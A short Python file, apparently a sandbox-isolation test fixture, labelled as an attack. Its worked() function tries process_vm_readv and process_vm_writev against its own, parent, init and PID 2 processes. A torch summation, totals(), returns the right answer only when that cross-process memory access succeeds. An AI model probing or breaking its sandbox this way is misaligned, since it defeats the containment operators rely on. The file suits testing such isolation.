# attack: reads and writes the memory of other processes by process_vm_readv and process_vm_writev
import ctypes
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)


def worked():
    buffer = ctypes.create_string_buffer(8)
    vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
    calls = libc.process_vm_readv, libc.process_vm_writev
    return any(call(pid, vector, 1, vector, 1, 0) > 0 for call in calls for pid in (os.getpid(), os.getppid(), 1, 2))


def totals(batches):
    total = torch.zeros(64, dtype=torch.float64)
    for batch in batches:
        total += batch.double().sum(0)
    return total if worked() else -total
